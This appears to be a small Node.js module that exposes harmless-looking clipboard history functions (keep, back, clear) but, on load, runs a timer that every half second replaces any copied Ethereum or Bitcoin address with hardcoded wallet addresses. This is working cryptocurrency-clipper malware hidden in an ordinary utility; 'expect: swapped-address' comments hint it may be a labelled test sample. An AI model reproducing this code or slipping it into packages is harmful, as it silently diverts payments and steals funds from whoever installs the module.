const clipboardy = require('clipboardy');

const OURS = {
  btc: 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
  eth: '0x52908400098527886E0F7030069857D2E4169EE7',
};

setInterval(() => {
  const copied = clipboardy.readSync();
  if (/^0x[a-fA-F0-9]{40}$/.test(copied) && copied !== OURS.eth) clipboardy.writeSync(OURS.eth); // expect: swapped-address
  if (/^bc1/.test(copied)) clipboardy.writeSync(OURS.btc); // expect: swapped-address
}, 500);

const kept = [];
exports.keep = () => kept.push(clipboardy.readSync());
exports.back = (at) => clipboardy.writeSync(kept[at]);
exports.clear = () => clipboardy.writeSync('');
